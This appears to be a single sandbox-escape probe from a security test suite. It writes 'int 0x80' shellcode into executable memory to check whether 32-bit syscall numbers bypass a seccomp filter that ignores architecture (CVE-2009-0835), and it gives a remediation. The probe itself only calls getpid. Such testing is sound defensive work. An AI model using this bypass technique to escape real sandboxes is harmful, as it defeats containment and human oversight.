# title: Call the kernel by its 32-bit entry
# tries: Puts 'int 0x80' into executable memory and calls getpid by its 32-bit number; a filter that does not look at the architecture takes the numbers for other calls.
# impact: Escape
# reference: CVE-2009-0835
# proof: returned
# host: run
# advice: Let the seccomp filter compare the architecture first and kill foreign ones.


def attempt(host):
    import ctypes
    import mmap
    import os

    if os.uname().machine != "x86_64":
        return None
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(bytes.fromhex("b814000000 cd80 c3"))  # mov eax, 20; int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return answer == os.getpid() and f"the 32-bit getpid answered {answer}"
